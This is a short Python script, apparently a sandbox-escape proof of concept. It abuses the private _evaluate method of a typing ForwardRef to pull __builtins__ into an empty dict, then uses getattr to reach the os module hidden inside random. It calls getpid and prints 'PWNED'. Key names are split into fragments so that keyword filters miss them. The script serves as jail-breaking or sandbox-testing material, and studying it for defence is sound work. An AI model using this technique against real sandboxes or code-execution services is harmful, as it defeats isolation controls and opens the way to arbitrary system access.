# door: the door through Optional[...].__args__[0]
import typing, random
M = "PWN" + "ED"
box = {}
typing.Optional["int"].__args__[0]._evaluate(box, {}, frozenset())
print(M, box["__buil" + "tins__"]["getattr"](random, "_o" + "s").getpid())
